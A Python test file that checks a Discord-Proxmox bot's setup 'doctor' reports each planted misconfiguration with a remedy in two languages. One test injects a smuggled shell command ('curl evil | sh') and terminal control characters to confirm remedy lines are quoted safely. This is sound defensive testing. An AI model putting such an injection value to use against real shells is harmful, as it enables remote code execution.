"""Test the doctor against doubles that are set up wrongly, one fault at a time.

Each fault is named in one line, in both languages, with the remedy that mends it. A clean setup has no warning.
"""

from __future__ import annotations

import contextlib
import json
import re
import shlex
import socket
import time
import tomllib
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import discord
import pytest

from adapters.proxmox.health_reads import HealthReads
from bot import COGS
from core.health.discord import Registered, invitation, judge_commands, judge_permissions
from core.health.host import DataDir, File, judge_data_dir, judge_files, judge_packages
from core.health.privileges import NEEDS, Scene, Token, grant_line, held_on, judge_token
from core.health.proxmox import Account, judge_clock, judge_tags, judge_version
from core.health.result import Result, Verdict, error, exit_code
from playground.discord.faults import PlannedFault
from playground.pve.server import BOT_PRIVILEGES, BOT_USER
from proxmox_client import Address, Endpoint
from startup.command_line import commands_of, parse_command_line
from startup.doctor.probe import certificate_of, offset_of
from startup.doctor.report import json_report, text_report
from startup.doctor.run import SetupPlace, check_all
from tests.support.catalogue import COMMANDS
from tests.support.process_stage import ROOT, ProcessStage, process_stage
from tests.support.walked import walked
from ui.i18n import Texts
from ui.messages.health import LABELS, WORDS, result_line

TOKEN = f"{BOT_USER}!bot"
NOWHERE = "999999999999999999"
DAY = 86400.0
TEXTS = Texts("en")
Settings = dict[str, str]


@dataclass(frozen=True)
class Fault:
    """A fault. `play`: brings it about while its generator waits, and yields settings that differ.

    `remedy`: a pattern of the words that mend it, the same in both languages.
    """

    play: Callable[[ProcessStage], Iterator[Settings]]
    word: str
    level: Verdict
    remedy: str


FAULTS: list[Fault] = []


def fault(
    word: str, level: Verdict, remedy: str
) -> Callable[[Callable[[ProcessStage], Iterator[Settings]]], None]:
    def add(play: Callable[[ProcessStage], Iterator[Settings]]) -> None:
        FAULTS.append(Fault(play, word, level, remedy))

    return add


BAD, DOUBT = Verdict.ERROR, Verdict.WARNING


# --- settings and files


@fault("told", BAD, "GUILD_ID")
def guild_is_a_name(_s: ProcessStage) -> Iterator[Settings]:
    yield {"GUILD_ID": "home"}


@fault("told", BAD, "PROXMOX_TOKEN_VALUE")
def whole_token_as_value(_s: ProcessStage) -> Iterator[Settings]:
    yield {"PROXMOX_TOKEN_VALUE": f"{TOKEN}=7f3c"}


@fault("told", BAD, "DATA_DIR")
def data_dir_is_a_file(s: ProcessStage) -> Iterator[Settings]:
    path = s.directory / "file"
    path.write_text("")
    yield {"DATA_DIR": str(path)}


@fault("told", BAD, r"\.lock|journal\.db")
def data_dir_with_a_planted_link(s: ProcessStage) -> Iterator[Settings]:
    path = s.directory / "planted"
    path.mkdir()
    (path / "journal.db").symlink_to("/etc/hostname")
    yield {"DATA_DIR": str(path)}


@fault("told", BAD, "PROXMOX_VERIFY_SSL")
def ca_file_is_missing(s: ProcessStage) -> Iterator[Settings]:
    yield {"PROXMOX_VERIFY_SSL": str(s.directory / "no.pem")}


@fault("file_open", DOUBT, r"chmod o-rwx \S*secret")
def secret_is_open_to_all(s: ProcessStage) -> Iterator[Settings]:
    path = s.directory / "secret"
    path.write_text(s.server.token)
    path.chmod(0o644)
    yield {"DISCORD_TOKEN": "", "DISCORD_TOKEN_FILE": str(path)}


# --- the way to Proxmox


@fault("dns_failed", BAD, "PROXMOX_HOST")
def name_is_unknown(_s: ProcessStage) -> Iterator[Settings]:
    yield {"PROXMOX_HOST": "pve.invalid"}


@fault("tcp_refused", BAD, "PROXMOX_HOST.*systemctl status pveproxy")
def port_is_closed(_s: ProcessStage) -> Iterator[Settings]:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        yield {"PROXMOX_HOST": f"127.0.0.1:{free.getsockname()[1]}"}


@fault("no_tls", BAD, "8006.*PROXMOX_HOST|PROXMOX_HOST.*8006")
def port_speaks_no_tls(s: ProcessStage) -> Iterator[Settings]:
    yield {"PROXMOX_HOST": re.sub(r"^\w+://|/.*$", "", s.server.environment()["DISCORD_API_BASE"])}


@fault("tls_untrusted", BAD, r'pvenode cert info.*PROXMOX_FINGERPRINT = "(..:){31}..')
def ca_is_another(_s: ProcessStage) -> Iterator[Settings]:
    yield {"PROXMOX_VERIFY_SSL": "true"}


@fault("tls_other_fingerprint", BAD, r'pvenode cert info.*PROXMOX_FINGERPRINT = "(..:){31}..')
def fingerprint_is_another(_s: ProcessStage) -> Iterator[Settings]:
    yield {"PROXMOX_FINGERPRINT": ":".join(["AB"] * 32)}


@fault("tls_unverified", DOUBT, r'pvenode cert info.*PROXMOX_FINGERPRINT = "')
def certificate_is_not_verified(_s: ProcessStage) -> Iterator[Settings]:
    yield {"PROXMOX_VERIFY_SSL": "false"}


@fault("tls_expired", BAD, "pvecm updatecerts --force")
def certificate_has_expired(s: ProcessStage) -> Iterator[Settings]:
    s.pve.show_certificate(-2)
    yield {}
    s.pve.show_certificate()


@fault("tls_ends_soon", DOUBT, "pvecm updatecerts --force")
def certificate_expires_soon(s: ProcessStage) -> Iterator[Settings]:
    s.pve.show_certificate(10)
    yield {}
    s.pve.show_certificate()


@fault("clock_behind", DOUBT, r"10\.0.*timedatectl set-ntp true")
def clock_is_ten_minutes_behind(s: ProcessStage) -> Iterator[Settings]:
    s.pve.clock_ahead = 600.0
    yield {}
    s.pve.clock_ahead = 0.0


@fault("clock_ahead", DOUBT, r"10\.0.*timedatectl set-ntp true")
def clock_is_ten_minutes_ahead(s: ProcessStage) -> Iterator[Settings]:
    s.pve.clock_ahead = -600.0
    yield {}
    s.pve.clock_ahead = 0.0


# --- the token and what it may do


@fault("token_refused", BAD, f"PROXMOX_TOKEN_VALUE.*pveum user token list {BOT_USER}.*--regenerate 1")
def secret_is_wrong(_s: ProcessStage) -> Iterator[Settings]:
    yield {"PROXMOX_TOKEN_VALUE": "b1946ac9-2491-4f0a-9c7e-0f1d2c3b4a59"}


@fault("token_refused", BAD, "pveum user token list")
def token_has_expired(s: ProcessStage) -> Iterator[Settings]:
    s.pve.ends[TOKEN] = time.time() - 60
    yield {}
    del s.pve.ends[TOKEN]


@fault("token_ends_soon", DOUBT, f"pveum user token modify {BOT_USER} bot --expire 0")
def token_expires_soon(s: ProcessStage) -> Iterator[Settings]:
    s.pve.ends[TOKEN] = time.time() + 5.5 * DAY
    yield {}
    del s.pve.ends[TOKEN]


@fault("token_ends_soon", DOUBT, f"pveum user modify {BOT_USER} --expire 0")
def user_expires_soon(s: ProcessStage) -> Iterator[Settings]:
    s.pve.ends[BOT_USER] = time.time() + 5.5 * DAY
    yield {}
    del s.pve.ends[BOT_USER]


@contextlib.contextmanager
def granted(s: ProcessStage, path: str, privileges: Sequence[str]) -> Iterator[None]:
    before = {who: list(rows) for who, rows in s.pve.acl.items()}
    for who in (BOT_USER, TOKEN):
        s.pve.grant(who, path, *privileges)
    try:
        yield
    finally:
        s.pve.acl.clear()
        s.pve.acl.update(before)


def without(*names: str) -> list[str]:
    return [name for name in BOT_PRIVILEGES if name not in names]


@contextlib.contextmanager
def denied(s: ProcessStage, privilege: str, path: str = "/") -> Iterator[None]:
    s.pve.deny(privilege, path)
    try:
        yield
    finally:
        s.pve.allow_again()


@fault(
    "privilege_missing",
    DOUBT,
    r'[^;]*VM.Snapshot[^;]*"; pveum acl modify /vms/102 --users \S+ --tokens \'\S+!bot\' --roles',
)
def privilege_is_missing_on_one_path(s: ProcessStage) -> Iterator[Settings]:
    # a guest without a pool: rights on its pool would count too
    with granted(s, "/vms/102", without("VM.Snapshot")):
        yield {}


@fault("privilege_missing", DOUBT, 'VM.PowerMgmt[^;]*"; pveum acl modify /vms --users')
def privilege_is_missing_everywhere(s: ProcessStage) -> Iterator[Settings]:
    with denied(s, "VM.PowerMgmt"):
        yield {}


@fault("privilege_missing", DOUBT, 'VM.Monitor[^;]*"; pveum acl modify /vms --users')
def privilege_of_8_is_missing(s: ProcessStage) -> Iterator[Settings]:
    s.pve.version, s.pve.release_version = "8.4.5", "8.4"
    yield {}
    s.pve.version, s.pve.release_version = "9.1.4", "9.1"


@fault("privilege_missing", DOUBT, 'Sys.Audit[^;]*"; pveum acl modify / --users')
def tasks_cannot_be_seen(s: ProcessStage) -> Iterator[Settings]:
    with denied(s, "Sys.Audit"):
        yield {}


@fault("privilege_missing", DOUBT, 'Datastore.AllocateSpace[^;]*"; pveum acl modify /storage/')
def no_storage_for_clones(s: ProcessStage) -> Iterator[Settings]:
    with denied(s, "Datastore.AllocateSpace"):
        yield {}


@fault("pool_privilege_missing", DOUBT, r'Pool.Audit[^;]*"; pveum acl modify /pool/lab --users')
def pools_cannot_be_seen(s: ProcessStage) -> Iterator[Settings]:
    role = str(s.guild.create_role("lab").id)
    with denied(s, "Pool.Audit"):
        yield {"OPERATOR_ROLE_IDS": role, "ROLE_SCOPES": json.dumps({role: ["pool:lab"]})}


@fault("no_guests", BAD, "VM.Audit")
def no_guest_is_visible(s: ProcessStage) -> Iterator[Settings]:
    with denied(s, "VM.Audit"):
        yield {}


@fault("token_of_root", DOUBT, r"docs/proxmox\.md")
def token_is_of_root(s: ProcessStage) -> Iterator[Settings]:
    s.pve.apitokens["root@pam!bot"] = "b1946ac9-2491-4f0a-9c7e-0f1d2c3b4a59"
    yield {"PROXMOX_USER": "root@pam", "PROXMOX_TOKEN_VALUE": "b1946ac9-2491-4f0a-9c7e-0f1d2c3b4a59"}
    del s.pve.apitokens["root@pam!bot"]


@fault("token_is_administrator", DOUBT, "pveum acl modify / .*--roles Administrator --delete 1")
def token_is_administrator(s: ProcessStage) -> Iterator[Settings]:
    with granted(s, "/", ["Permissions.Modify", "User.Modify", "Sys.Modify"]):
        yield {}


@fault("privilege_too_much", DOUBT, "Permissions.Modify.*pveum acl list")
def token_may_change_rights(s: ProcessStage) -> Iterator[Settings]:
    with granted(s, "/", ["Permissions.Modify"]):
        yield {}


@fault("version_old", BAD, r"8\.4")
def version_is_old(s: ProcessStage) -> Iterator[Settings]:
    s.pve.version, s.pve.release_version = "8.2.4", "8.2"
    yield {}
    s.pve.version, s.pve.release_version = "9.1.4", "9.1"


@fault("no_node", BAD, "NODE_NAME.*pve1, pve2")
def node_is_unknown(_s: ProcessStage) -> Iterator[Settings]:
    yield {"NODE_NAME": "pve9"}


@fault("tags_open", DOUBT, r"pvesh set /cluster/options --registered-tags \S*owner-4242")
def everybody_may_set_owners(s: ProcessStage) -> Iterator[Settings]:
    guest = s.pve.guest(101)
    before = guest.config.get("tags")
    guest.config["tags"] = "owner-4242"
    yield {}
    guest.config.pop("tags") if before is None else guest.config.update(tags=before)


# --- Discord


@fault("discord_login_failed", BAD, "DISCORD_TOKEN")
def discord_token_is_wrong(_s: ProcessStage) -> Iterator[Settings]:
    yield {"DISCORD_TOKEN": "wrong.token"}


@fault(
    "no_guild", BAD, r"GUILD_ID.*https://discord\.com/oauth2/authorize\?client_id=\d+&scope=bot\+applications"
)
def guild_is_another(_s: ProcessStage) -> Iterator[Settings]:
    yield {"GUILD_ID": NOWHERE}


@fault("is_a_channel", BAD, "ALLOWED_CATEGORY_ID")
def category_is_a_text_channel(s: ProcessStage) -> Iterator[Settings]:
    yield {"ALLOWED_CATEGORY_ID": str(s.channel.id)}


@fault("no_category", BAD, "ALLOWED_CATEGORY_ID")
def category_is_unknown(_s: ProcessStage) -> Iterator[Settings]:
    yield {"ALLOWED_CATEGORY_ID": NOWHERE}


@fault("no_channel", BAD, "ALERT_CHANNEL_ID")
def channel_is_unknown(_s: ProcessStage) -> Iterator[Settings]:
    yield {"ALERT_CHANNEL_ID": NOWHERE}


@fault("is_a_category", BAD, "ALERT_CHANNEL_ID")
def channel_is_a_category(s: ProcessStage) -> Iterator[Settings]:
    yield {"ALERT_CHANNEL_ID": str(s.category.id)}


@fault("permissions", BAD, "ALERT_CHANNEL_ID")
def channel_cannot_be_written(s: ProcessStage) -> Iterator[Settings]:
    mute = discord.PermissionOverwrite(send_messages=False)
    quiet = s.guild.create_text_channel("quiet", category=s.category, overwrites={s.guild.default_role: mute})
    yield {"ALERT_CHANNEL_ID": str(quiet.id)}


@fault("no_role", BAD, "ADMIN_ROLE_IDS")
def role_is_unknown(_s: ProcessStage) -> Iterator[Settings]:
    yield {"ADMIN_ROLE_IDS": NOWHERE}


@fault("role_is_silent", DOUBT, "ALERT_MENTION_ROLE_ID")
def role_cannot_be_mentioned(s: ProcessStage) -> Iterator[Settings]:
    silent = discord.PermissionOverwrite(mention_everyone=False)
    role = s.guild.create_role("on-call")
    quiet = s.guild.create_text_channel(
        "silent", category=s.category, overwrites={s.guild.default_role: silent}
    )
    yield {"ALERT_MENTION_ROLE_ID": str(role.id), "ALERT_CHANNEL_ID": str(quiet.id)}


@fault("commands_not_allowed", BAD, r"applications\.commands.*https://discord\.com/oauth2/authorize")
def invitation_is_old(s: ProcessStage) -> Iterator[Settings]:
    refused = PlannedFault("GET", "/commands", 1, 403, code=50001, message="Missing Access")
    s.server.rest.faults.add(refused)
    yield {}


# --- the test


@pytest.fixture
async def stage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[ProcessStage]:
    async with process_stage(tmp_path) as made:
        monkeypatch.setattr(discord.http.Route, "BASE", made.server.environment()["DISCORD_API_BASE"])
        yield made


async def examine(stage: ProcessStage, **settings: str) -> list[Result]:
    place = SetupPlace(
        ROOT, stage.directory / "config.py", stage.environment(**settings), frozenset({"list", "info"})
    )
    _, found = await check_all(place)
    return found


def amiss(found: list[Result]) -> list[Result]:
    return [result for result in found if result.level is not Verdict.OK]


@pytest.mark.filterwarnings(
    "ignore::urllib3.exceptions.InsecureRequestWarning"
)  # one fault is that nothing is verified
async def test_each_fault_is_named_with_its_remedy_and_a_clean_setup_has_none(stage: ProcessStage) -> None:
    assert len(FAULTS) >= 30
    english, japanese = TEXTS.of("en"), TEXTS.of("ja")
    told: list[str] = []
    wrong: list[str] = []
    for each in FAULTS:
        playing = each.play(stage)
        settings = next(playing)
        found = await examine(stage, **settings)
        translated = (
            await examine(stage, **settings, LANGUAGE="ja")
            if each.word in ("told", "discord_login_failed")
            else found
        )
        assert next(playing, None) is None
        mine = [r for r in found if (r.word, r.level) == (each.word, each.level)]
        lines = [result_line(english, r) for r in mine]
        ours = [result_line(japanese, r) for r in translated if r.word == each.word]
        named = [line for line in lines if re.search(each.remedy, line)]
        if not named or not any(re.search(each.remedy, line) for line in ours):
            wrong.append(
                f"{each.play.__name__} {each.word}: {[result_line(english, r) for r in amiss(found)]}"
            )
        if any("\n" in line for line in (*lines, *ours)) or exit_code(found) != (
            2 if each.level is BAD else 1
        ):
            wrong.append(
                f"{each.play.__name__}: exit {exit_code(found)}, {[result_line(english, r) for r in amiss(found)]}"
            )
        told += [*(result_line(english, r) for r in found), *(result_line(japanese, r) for r in translated)]
    assert not wrong, "\n".join(wrong)

    clean = await examine(stage)
    assert [result_line(english, result) for result in amiss(clean)] == []
    assert exit_code(clean) == 0
    report = text_report(japanese, clean)
    assert json.loads(json_report(english, clean))["exit"] == 0
    for secret in (stage.server.token, *stage._tokens.values()):
        assert secret not in report + json_report(english, clean) + "\n".join(told)


async def test_the_command_line(stage: ProcessStage) -> None:
    """A site that is down keeps nothing of the other from being checked, and the exit code says so."""
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    stage.add_site("home", stage.pve)
    stage.add_site("colo", stage.pve, PROXMOX_HOST=f"127.0.0.1:{closed.getsockname()[1]}")
    config = str(stage.directory / "no config.py")
    bot = await stage.launch("bot.py", "--check", "--json", "--config", config, FIRST_SITE="home")
    assert await bot.wait() == 2
    closed.close()
    output = bot.output()
    report = json.loads(output[output.index("{") :])
    rows = {(row["check"], row["where"]): row for row in report["results"]}
    assert rows["proxmox.guests", "home"]["level"] == "ok"
    assert rows["proxmox.guests", "colo"]["level"] == "unchecked"
    assert rows["discord.guild", ""]["level"] == "ok"
    assert not list(stage.directory.glob(".check-*"))


async def test_the_other_options(stage: ProcessStage, capsys: pytest.CaptureFixture[str]) -> None:
    """Nothing secret is printed, and the test alert arrives while no bot runs."""
    config = ("--config", str(stage.directory / "no config.py"))
    pinned = ":".join(["AB"] * 32)
    bot = await stage.launch(
        "bot.py", "--print-config", *config, PROXMOX_FINGERPRINT=pinned, QUIET_HOURS="23:00-07:00"
    )
    assert await bot.wait() == 0
    printed = bot.output()
    assert f"GUILD_ID = {stage.guild.id}\n" in printed
    assert "PROXMOX_TOKEN_VALUE = ***\n" in printed
    assert pinned in printed

    bot = await stage.launch("bot.py", "--send-test-alert", *config)
    assert await bot.wait() == 0
    assert [str(stage.alerts.id) in bot.output(), len(stage.alerts_told())] == [True, 1]
    bot = await stage.launch("bot.py", "--send-test-alert", *config, ALERT_CHANNEL_ID=NOWHERE)
    assert await bot.wait() == 2
    assert f"{NOWHERE} did not arrive. Run `python bot.py --check`" in bot.output()

    with pytest.raises(SystemExit):
        parse_command_line(["--version"], ROOT / "config.py")
    project = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))["project"]
    assert capsys.readouterr().out == f"{project['name']} {project['version']}\n"


def test_the_machine() -> None:
    wanted = {"aiohttp": "3.14.5", "discord.py": "2.7.1"}
    assert judge_packages("3.11.7", wanted, wanted).level is Verdict.OK
    other = judge_packages("3.11.7", wanted, {"aiohttp": "3.0.0", "discord.py": None})
    assert (other.level, other.values["names"]) == (DOUBT, "aiohttp 3.0.0 → 3.14.5, discord.py – → 2.7.1")
    words = [judge_data_dir(DataDir("/data", free)).word for free in (0, 50 * 2**20, 2**40)]
    assert words == ["data_dir_full", "data_dir_low", "data_dir_ok"]
    assert judge_data_dir(DataDir("/data", 2**40, in_use=True)).level is Verdict.OK
    assert [r.word for r in judge_files([File("config.py", "/a b", 0o640)])] == ["files_ok"]
    assert judge_files([File("config.py", "/a b", 0o604)])[0].values["line"] == "chmod o-rwx '/a b'"


def test_rights_are_inherited_and_replaced_as_in_proxmox() -> None:
    rights = {"/": {"Sys.Audit": 1, "Pool.Audit": 0}, "/vms": {"VM.Audit": 1}, "/vms/7": {"VM.PowerMgmt": 1}}
    assert held_on(rights, "/nodes") == {"Sys.Audit"}  # Pool.Audit does not propagate
    assert held_on(rights, "/") == {"Sys.Audit", "Pool.Audit"}
    assert held_on(rights, "/vms/8") == {"VM.Audit"}
    assert held_on(rights, "/vms/7") == {"VM.PowerMgmt"}
    in_pool = {"/pool/lab": {name: 1 for need in NEEDS for name in need.privileges}}
    found = judge_token(Token("u@pve", "t", in_pool, 9), Scene({7: "lab"}), "")
    assert not any("/vms" in result.values.get("paths", "") for result in found)
    assert {result.values["paths"] for result in found if result.check == "proxmox.privileges"} <= {
        "/nodes",
        "/",
        "/storage",
        "/sdn/zones/localnetwork",
    }
    few = {"/pool/lab": {"VM.Audit": 1, "Pool.Audit": 1}}
    power = judge_token(Token("u@pve", "t", few, 9), Scene({7: "lab", 8: "lab"}), "")[0]
    assert power.values["paths"] == "/pool/lab"  # not all guests of the cluster
    # a role on a path replaces those from above it: the bot keeps its privileges there
    inherited = {"/": {"VM.Audit": 1, "Sys.Audit": 1, "VM.Console": 1}}
    power = judge_token(Token("u@pve", "t", inherited, 9), Scene({7: None}), "")[0]
    assert power.values["line"].startswith(
        'pveum role add DiscordBotExtraPower --privs "Sys.Audit VM.Audit VM.PowerMgmt"; pveum acl modify /vms '
    )
    line = grant_line(Token("u@pve", "t", {}, 9), "Power", ["VM.PowerMgmt"], ["/vms/7"])
    assert line == (
        'pveum role add DiscordBotExtraPower --privs "VM.PowerMgmt"; '
        "pveum acl modify /vms/7 --users u@pve --tokens 'u@pve!t' --roles DiscordBotExtraPower"
    )


@walked(
    ("options", "word"),
    [
        ({}, "tags_open"),
        ({"registered-tags": ["owner-1", "protected"]}, "tags_ok"),
        ({"registered-tags": "owner-1;protected"}, "tags_ok"),
        ({"registered-tags": "owner-1"}, "tags_open"),
        ({"user-tag-access": {"user-allow": "none"}}, "tags_ok"),
        ({"user-tag-access": "user-allow=list,user-allow-list=web"}, "tags_ok"),
        ({"user-tag-access": {"user-allow": "list", "user-allow-list": ["protected"]}}, "tags_open"),
        ({"user-tag-access": {"user-allow": "existing"}}, "tags_open"),
    ],
)
def test_people_who_may_set_the_tags(options: dict[str, object], word: str) -> None:
    assert judge_tags(options, ["owner-1", "Protected", "web"], (), "").word == word
    assert judge_tags(options, ["web"], (), "").word == "tags_none"


def test_versions_and_clocks() -> None:
    words = {text: judge_version(text, "").word for text in ("8.3.9", "8.4.0", "9.2.11", "10.0.1", "?", "²")}
    assert list(words.values()) == [f"version_{word}" for word in ("old", "ok", "ok", "new", "old", "old")]
    assert offset_of("Thu, 01 Jan 1970 00:10:00 GMT", 0.0, 1.0) == 599.0
    assert offset_of("Thu, 01 Jan 1970 00:00:00 GMT", 0.5, 0.6) == 0.0
    assert offset_of("soon", 0.0, 1.0) is None
    clocks = [judge_clock("proxmox.clock", offset, "") for offset in (None, -30.0, 30.0, 31.0, -31.0)]
    assert [each.word for each in clocks] == [
        f"clock_{word}" for word in ("untold", "ok", "ok", "behind", "ahead")
    ]
    with pytest.raises(ValueError, match="not a certificate"):
        certificate_of(b"\x30\x03\x02\x01\x01")


def test_the_bots_commands_and_permissions_in_discord_are_judged() -> None:
    """A fault is a line with its remedy. A thing that is only not known yet is no fault."""
    link = invitation(42)
    judged = [
        judge_commands(Registered(frozenset(names), allowed), ["info", "list"], link)
        for names, allowed in (((), False), ((), True), (("list",), True), (("info", "list", "x"), True))
    ]
    assert [(each.word, each.level) for each in judged] == [
        ("commands_not_allowed", BAD),
        ("commands_at_start", Verdict.OK),
        ("commands_missing", DOUBT),
        ("commands_ok", Verdict.OK),
    ]
    assert "/info" in result_line(TEXTS.of("en"), judged[2])
    powerful, least = (judge_permissions(administrator=each, link=link) for each in (True, False))
    assert (powerful.word, powerful.level) == ("discord_administrator", DOUBT)
    assert least.level is Verdict.OK
    for language in ("en", "ja"):
        for each in (judged[0], powerful, least):
            assert link in result_line(TEXTS.of(language), each)


def test_texts_of_proxmox_cannot_command_a_shell_or_a_terminal() -> None:
    """Its remedies are pasted into a root shell, and the report goes to a terminal."""
    evil = "x'; curl evil | sh #"
    told = judge_tags({}, [f"owner-{evil}"], (), "").values["line"]
    assert shlex.split(told)[-2:] == ["--registered-tags", f"owner-{evil}"]
    granted = grant_line(Token("bot@pve", "bot", {}, 9), "View", {"VM.Audit"}, [f"/pool/{evil}"])
    assert f"/pool/{evil}" in shlex.split(granted)
    name = "\x9b31m\u202e\ud800"
    results = [error("discord.guild", "no_guild", guild=name, line="x")]
    assert json_report(Texts("ja").of("ja"), results).isascii()
    assert not any(char in text_report(Texts("ja").of("ja"), results) for char in name if char not in "31m")


async def test_a_user_list_with_nonsense_is_read() -> None:
    """Its times decide only how long the token lasts: no other check ends with them."""
    rows = [{"userid": BOT_USER, "expire": "²", "tokens": [{"tokenid": "bot", "expire": "9" * 400}]}]
    reads = HealthReads(Endpoint((Address("127.0.0.1", 1),), user=BOT_USER, token_name="bot", token_value=""))
    assert reads._account(rows) == Account(0.0, 0.0)
    reads.close()


def test_the_commands_are_those_of_the_tree() -> None:
    assert commands_of(COGS) == {command.word.split()[0] for command in COMMANDS}


def test_every_word_is_used() -> None:
    code = "\n".join(
        path.read_text("utf-8")
        for folder in ("core/health", "startup/doctor")
        for path in (ROOT / folder).glob("*.py")
    )
    assert [word for word in (*WORDS, *LABELS) if f'"{word}"' not in code] == []
